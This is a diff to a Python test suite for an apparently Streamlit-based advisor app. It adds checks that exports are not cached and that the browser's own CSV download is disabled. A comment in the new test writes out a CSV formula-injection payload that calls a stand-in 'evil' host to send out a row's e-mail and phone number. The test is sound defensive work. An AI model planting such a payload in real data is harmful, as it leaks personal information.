@@ -197,6 +197,8 @@ def test_an_ended_sign_in_closes_the_open_connection_and_builds_no_export(server
     assert audit.recent_events().query("action == 'export'")["actor"].tolist() == ["admin@cfai.fr"]
     served = requests.get(f"http://{server}{url}", cookies={web.COOKIE: cookie}, timeout=30)
     assert served.status_code == 200 and "admin@cfai.fr;Connexion" in served.content.decode("utf-8-sig")
+    # Kept by no cache (the browser's, a proxy's): it would be handed out again after sign-out.
+    assert served.headers["cache-control"] == "no-store"
     other = signed_in_cookie(server, "marketing@cfai.fr")
     assert requests.get(f"http://{server}{url}", cookies={web.COOKIE: other}, timeout=30).status_code == 404
     # Anonymous, whatever it adds (what the gate once let through): nothing.
@@ -212,6 +214,20 @@ def test_an_ended_sign_in_closes_the_open_connection_and_builds_no_export(server
         tab.read_until("backend_operation_response")
     assert requests.get(f"http://{server}{url}", cookies={web.COOKIE: cookie}, timeout=30).status_code == 401
     assert len(audit.recent_events().query("action == 'export'")) == 1
+
+
+def test_the_browser_is_told_to_offer_no_export_of_its_own(server):
+    # The attack: st.dataframe's toolbar has a "Download as CSV" of its own, built in the browser:
+    # no sign-in check, no audit record, and no formula neutralised. A young person who books
+    # an interview on the public booking site under the name =HYPERLINK("https://evil/?"&F2&G2)
+    # lands in the advisor's schedule table; its toolbar CSV, opened in a spreadsheet, sends
+    # that row's e-mail and phone away at a click, and nobody's log says it was downloaded.
+    # Every download must go through the app's export buttons (pages/common/downloads.py):
+    # the server tells each browser to hide its own export controls.
+    tab = Connection(server, {web.COOKIE: signed_in_cookie(server, "admin@cfai.fr")})
+    shown = tab.run()
+    tab.close()
+    assert "disable_data_export: true" in shown
 
 
 def test_under_a_base_url_the_app_s_files_still_need_a_sign_in(engine, tmp_path: Path):
